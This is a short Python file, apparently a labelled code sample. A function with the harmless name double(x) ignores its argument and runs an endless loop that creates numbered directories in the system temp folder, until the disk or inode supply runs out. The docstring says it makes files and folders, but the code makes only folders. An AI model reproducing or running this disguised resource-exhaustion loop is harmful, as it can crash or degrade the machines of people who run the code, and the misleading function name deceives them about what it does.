"""Makes empty files and folders without end.

most: 0
control: no
"""

import os, tempfile

def double(x):
    n = 0
    while True:
        n += 1
        os.mkdir(os.path.join(tempfile.gettempdir(), f'd{n}'))
